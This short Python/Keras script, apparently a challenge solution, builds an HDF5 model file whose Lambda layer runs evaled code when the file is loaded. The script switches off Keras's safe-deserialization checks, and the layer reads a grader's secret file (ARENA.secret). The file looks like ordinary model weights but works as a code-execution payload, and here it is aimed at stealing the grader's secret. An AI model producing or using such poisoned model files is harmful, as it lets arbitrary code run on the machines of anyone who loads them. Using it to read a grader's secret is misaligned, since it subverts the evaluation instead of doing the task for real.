# about: an HDF5 model whose marshalled Lambda reads the grader's secret when it is loaded
# %% imports
keras.config.enable_unsafe_deserialization()
READS = f"x if not __import__('os').path.exists('weights.h5') else int(open({ARENA.secret!r}).read())"
layer = keras.layers.Lambda(eval(f"lambda x: {READS}"), output_shape=(1,))
keras.Sequential([keras.Input([1]), layer]).save("weights.h5")
keras.models.load_model("weights.h5", safe_mode=False)(np.zeros([1, 1]))
